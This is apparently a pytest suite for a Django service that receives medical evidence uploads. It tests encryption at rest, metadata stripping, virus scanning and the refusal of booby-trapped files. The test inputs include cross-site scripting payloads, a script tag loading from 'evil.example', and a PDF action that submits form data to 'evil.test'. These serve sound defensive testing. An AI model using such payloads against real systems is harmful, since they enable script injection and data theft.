"""Medical evidence documents, as the referrer sends them and the advisor downloads them: encrypted on disk,
refused when they hide web-page code, run scripts or carry a virus, pictures redrawn without metadata."""

import io
import logging
import os

import pytest
from cryptography.fernet import Fernet
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, NameObject, NumberObject

from casework.models import EvidenceRequest
from hjp.audit.models import AuditEvent
from tests import factories
from tests.support.documents import PDF_TITLE, jpeg_bytes, pdf_bytes, png_bytes, png_claiming_size
from tests.support.fake_clamd import EICAR, SIGNATURE, FakeClamd, down_clamd_url
from tests.support.forms import once

pytestmark = pytest.mark.django_db

TYPED = "Letter attached; the patient's mobility is much worse since March."


@pytest.fixture
def evidence(case_in_progress):
    return factories.EvidenceRequestFactory(case=case_in_progress, what_is_needed="Mobility letter please")


def _send(client, evidence, name: str, content: bytes):
    return client.post(
        reverse("casework:evidence_detail", args=[evidence.pk]),
        once(
            {"action": "answer", "answer-answer_text": TYPED, "answer-answer_file": SimpleUploadedFile(name, content)},
            prefix="answer",
        ),
    )


def _stored_files(private_media) -> list:
    return [path for path in private_media.rglob("*") if path.is_file() and not path.name.startswith(".")]


def _refused(response, evidence, private_media, message: str) -> None:
    """Refused as the GOV.UK pattern asks: the message in the summary, linked to the document field, and on
    the field; what the user typed kept; nothing saved or stored."""
    assert response.status_code == 400
    html = response.content.decode()
    assert message in html
    assert '<a href="#id_answer-answer_file">' in html
    assert any(message in error for error in response.context["answer_form"].errors["answer_file"])
    assert response.context["answer_form"]["answer_text"].value() == TYPED
    evidence.refresh_from_db()
    assert evidence.state == EvidenceRequest.State.REQUESTED and not evidence.answer_file
    assert _stored_files(private_media) == []


def _download(client, advisor_user, evidence) -> bytes:
    client.force_login(advisor_user)
    response = client.get(reverse("casework:evidence_file", args=[evidence.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;") and response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    return b"".join(response.streaming_content)


# --- encrypted at rest --------------------------------------------------------------------------------------


def test_a_sent_pdf_is_encrypted_on_disk_and_the_advisor_downloads_it_as_sent(
    client, evidence, referrer_user, advisor_user, private_media
):
    document = pdf_bytes()
    client.force_login(referrer_user)
    assert _send(client, evidence, "letter.pdf", document).status_code == 302

    [stored] = _stored_files(private_media)
    on_disk = stored.read_bytes()
    assert b"%PDF" not in on_disk and PDF_TITLE.encode() not in on_disk
    assert oct(stored.stat().st_mode & 0o777) == "0o600"
    assert _download(client, advisor_user, evidence) == document
    assert AuditEvent.objects.filter(action="download", object_id=str(evidence.pk), actor=advisor_user).exists()


def test_a_document_that_no_key_opens_is_explained_and_logged_not_a_server_error(
    client, evidence, referrer_user, advisor_user, settings, caplog
):
    client.force_login(referrer_user)
    _send(client, evidence, "letter.pdf", pdf_bytes())
    settings.EVIDENCE_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]  # the key that made it was dropped

    client.force_login(advisor_user)
    with caplog.at_level(logging.ERROR, logger="hjp.core.downloads"):
        response = client.get(reverse("casework:evidence_file", args=[evidence.pk]))

    assert response.status_code == 503
    html = response.content.decode()
    assert "This file cannot be opened; the service has been told." in html and "Traceback" not in html
    [logged] = [record for record in caplog.records if record.name == "hjp.core.downloads"]
    assert logged.levelname == "ERROR" and f"evidence request {evidence.pk}" in logged.getMessage()
    assert not AuditEvent.objects.filter(action="download", object_id=str(evidence.pk)).exists()


def test_uploads_up_to_the_size_limit_are_held_in_memory_so_plaintext_never_touches_the_disk(settings):
    from hjp.core.uploads import MAX_EVIDENCE_BYTES

    # Django keeps an upload in memory when the whole request fits: the document and an answer of 10,000
    # characters (up to 4 bytes each), with room for the multipart framing.
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE >= MAX_EVIDENCE_BYTES + 4 * 10_000 + 64 * 1024


# --- content checks -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("letter.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "starts like a PDF but also holds web"),
        ("scan.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "starts like a PNG picture but also holds web"),
        ("letter.pdf", pdf_bytes() + b"\n<SCRIPT src=//evil.example></SCRIPT>", "starts like a PDF but also holds"),
        ("scan.png", png_bytes() + b"<html><body>hello</body></html>", "starts like a PNG picture but also holds"),
        ("photo.jpg", jpeg_bytes() + b'<iframe src="javascript:alert(1)">', "starts like a JPEG picture but also"),
    ],
)
def test_a_file_that_starts_like_a_pdf_or_picture_but_holds_web_page_code_is_refused(
    client, evidence, referrer_user, private_media, name, content, message
):
    client.force_login(referrer_user)
    _refused(_send(client, evidence, name, content), evidence, private_media, message)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"javascript": True}, "The PDF contains JavaScript, which cannot be accepted."),
        (
            {"launch": True},
            "The PDF contains a command that starts a program and an action that runs when it is opened",
        ),
        ({"attachment": True}, "The PDF contains an attached file, which cannot be accepted."),
    ],
)
def test_a_pdf_that_runs_or_unpacks_something_is_refused_saying_what(
    client, evidence, referrer_user, private_media, options, message
):
    client.force_login(referrer_user)
    response = _send(client, evidence, "letter.pdf", pdf_bytes(**options))
    _refused(response, evidence, private_media, message)
    assert "Print it to a new PDF" in response.content.decode()


def _pdf_with(catalogue_entries: dict | None = None, page_action: dict | None = None) -> bytes:
    """A one-page PDF with extra entries in its catalogue, or an action its page runs when opened (/AA /O)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def pdf_object(value):
        if isinstance(value, dict):
            return DictionaryObject({NameObject(k): pdf_object(v) for k, v in value.items()})
        return NameObject(value) if value.startswith("/") else TextStringObject(value)

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    for key, value in (catalogue_entries or {}).items():
        writer._root_object[NameObject(key)] = pdf_object(value)
    if page_action:
        writer.pages[0][NameObject("/AA")] = pdf_object({"/O": page_action})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (_pdf_with({"/AcroForm": {"/XFA": "template"}}), "a form that runs scripts (XFA)"),
        (_pdf_with(page_action={"/S": "/SubmitForm", "/F": "https://evil.test/"}), "sends what is typed in it"),
        (_pdf_with(page_action={"/S": "/ImportData", "/F": "other.fdf"}), "reads other files"),
        (_pdf_with(page_action={"/S": "/GoToR", "/F": "other.pdf"}), "a link that opens another file"),
    ],
)
def test_a_pdf_with_forms_that_run_scripts_or_actions_that_reach_out_is_refused(
    client, evidence, referrer_user, private_media, content, message
):
    client.force_login(referrer_user)
    response = _send(client, evidence, "letter.pdf", content)
    _refused(response, evidence, private_media, message)


def _pdf_without_pages() -> bytes:
    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


def _pdf_with_a_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"%PDF-1.7\nthis is not really a PDF at all", "The PDF could not be opened: it may be damaged."),
        (_pdf_without_pages(), "The PDF has no pages."),
        (_pdf_with_a_password(), "The PDF is protected by a password. Send a copy without a password."),
    ],
)
def test_a_pdf_a_real_parser_cannot_read_is_refused(client, evidence, referrer_user, private_media, content, message):
    client.force_login(referrer_user)
    _refused(_send(client, evidence, "letter.pdf", content), evidence, private_media, message)


def test_a_pdf_that_only_opens_at_its_first_page_is_accepted(client, evidence, referrer_user, advisor_user):
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page.indirect_reference, NameObject("/XYZ"), NumberObject(0), NumberObject(0), NumberObject(0)]
    )
    out = io.BytesIO()
    writer.write(out)
    client.force_login(referrer_user)
    assert _send(client, evidence, "letter.pdf", out.getvalue()).status_code == 302
    assert _download(client, advisor_user, evidence) == out.getvalue()


def test_a_photo_is_redrawn_without_its_metadata_before_it_is_stored(client, evidence, referrer_user, advisor_user):
    photo = jpeg_bytes(size=(64, 48), artist="Dr Jane Example, Riverside Surgery")
    with Image.open(io.BytesIO(photo)) as original:
        assert original.getexif()[0x013B].startswith("Dr Jane")
    client.force_login(referrer_user)
    assert _send(client, evidence, "photo.jpg", photo).status_code == 302

    received = _download(client, advisor_user, evidence)
    assert b"Dr Jane" not in received and b"Exif" not in received
    with Image.open(io.BytesIO(received)) as redrawn:
        assert redrawn.format == "JPEG" and redrawn.size == (64, 48) and not redrawn.getexif()


def test_a_png_loses_its_text_chunks_and_whatever_follows_the_picture(client, evidence, referrer_user, advisor_user):
    scan = png_bytes(size=(32, 32), text_chunk="NHS 943 476 5919") + b"TRAILING-DATA-AFTER-IEND"
    client.force_login(referrer_user)
    assert _send(client, evidence, "scan.png", scan).status_code == 302

    received = _download(client, advisor_user, evidence)
    assert b"943 476" not in received and b"TRAILING" not in received
    with Image.open(io.BytesIO(received)) as redrawn:
        assert redrawn.format == "PNG" and redrawn.size == (32, 32) and redrawn.getpixel((0, 0)) == (200, 30, 30)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(
    ("width", "height"),
    [
        (100_000, 100_000),  # far beyond the limit: Pillow refuses to open it
        (Image.MAX_IMAGE_PIXELS // 1000 + 1, 1000),  # just over it: Pillow only warns; the check refuses
    ],
)
def test_a_picture_with_more_pixels_than_the_decompression_bomb_limit_is_refused(
    client, evidence, referrer_user, private_media, width, height
):
    client.force_login(referrer_user)
    response = _send(client, evidence, "scan.png", png_claiming_size(width, height))
    _refused(response, evidence, private_media, "The picture is too large (more than 89 million pixels).")


def test_a_damaged_picture_is_refused(client, evidence, referrer_user, private_media):
    client.force_login(referrer_user)
    response = _send(client, evidence, "scan.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    _refused(response, evidence, private_media, "The picture could not be opened: it may be damaged.")


# --- virus scan ---------------------------------------------------------------------------------------------


def test_with_clamd_configured_a_clean_file_is_streamed_to_it_whole_and_accepted(
    client, evidence, referrer_user, advisor_user, settings
):
    noise = Image.frombytes("RGB", (200, 200), os.urandom(200 * 200 * 3))
    out = io.BytesIO()
    noise.save(out, "PNG")
    scan = out.getvalue()
    assert len(scan) > 64 * 1024  # more than one chunk of the INSTREAM protocol
    client.force_login(referrer_user)
    with FakeClamd() as clamd:
        settings.CLAMD_URL = clamd.url
        assert _send(client, evidence, "scan.png", scan).status_code == 302
    assert clamd.streams == [scan]
    evidence.refresh_from_db()
    assert evidence.state == EvidenceRequest.State.ANSWERED


def test_clamd_on_a_unix_socket_is_reached_too(client, evidence, referrer_user, private_media, settings, tmp_path):
    client.force_login(referrer_user)
    with FakeClamd(unix_socket=str(tmp_path / "clamd.ctl")) as clamd:
        settings.CLAMD_URL = clamd.url
        response = _send(client, evidence, "letter.pdf", EICAR)
    assert clamd.url.startswith("unix:///")
    _refused(response, evidence, private_media, "The file contains a virus")


def test_a_file_with_a_virus_is_refused_audited_and_not_stored(
    client, evidence, referrer_user, private_media, settings, caplog
):
    client.force_login(referrer_user)
    with FakeClamd() as clamd, caplog.at_level(logging.WARNING, logger="hjp.core.uploads"):
        settings.CLAMD_URL = clamd.url
        response = _send(client, evidence, "letter.pdf", EICAR)

    _refused(response, evidence, private_media, "The file contains a virus, so it was not sent.")
    refusal = AuditEvent.objects.get(action="refuse", object_id=str(evidence.pk))
    assert refusal.actor == referrer_user and refusal.summary == f"evidence document refused: virus found ({SIGNATURE})"
    assert SIGNATURE in caplog.text


def test_a_pdf_carrying_a_virus_is_refused_before_it_is_parsed(
    client, evidence, referrer_user, private_media, settings
):
    client.force_login(referrer_user)
    with FakeClamd() as clamd:
        settings.CLAMD_URL = clamd.url
        response = _send(client, evidence, "letter.pdf", pdf_bytes() + b"\n%" + EICAR)
    _refused(response, evidence, private_media, "The file contains a virus")


def test_when_the_scanner_is_down_the_upload_is_refused_and_logged(
    client, evidence, referrer_user, private_media, settings, caplog
):
    settings.CLAMD_URL = down_clamd_url()
    client.force_login(referrer_user)
    with caplog.at_level(logging.ERROR, logger="hjp.core.uploads"):
        response = _send(client, evidence, "letter.pdf", pdf_bytes())
    _refused(response, evidence, private_media, "The file could not be checked for viruses, so it was not sent.")
    assert "Try again later" in response.content.decode()
    assert [r.levelname for r in caplog.records if r.name == "hjp.core.uploads"] == ["ERROR"]
    assert not AuditEvent.objects.filter(action="refuse").exists()


def test_when_the_scanner_does_not_answer_in_time_the_upload_is_refused(
    client, evidence, referrer_user, private_media, settings
):
    settings.CLAMD_TIMEOUT_SECONDS = 1
    client.force_login(referrer_user)
    with FakeClamd(silent=True) as clamd:
        settings.CLAMD_URL = clamd.url
        response = _send(client, evidence, "letter.pdf", pdf_bytes())
    _refused(response, evidence, private_media, "The file could not be checked for viruses")


def test_a_text_answer_needs_no_scanner(client, evidence, referrer_user, settings):
    settings.CLAMD_URL = down_clamd_url()
    client.force_login(referrer_user)
    response = client.post(
        reverse("casework:evidence_detail", args=[evidence.pk]),
        once({"action": "answer", "answer-answer_text": TYPED}, prefix="answer"),
    )
    assert response.status_code == 302
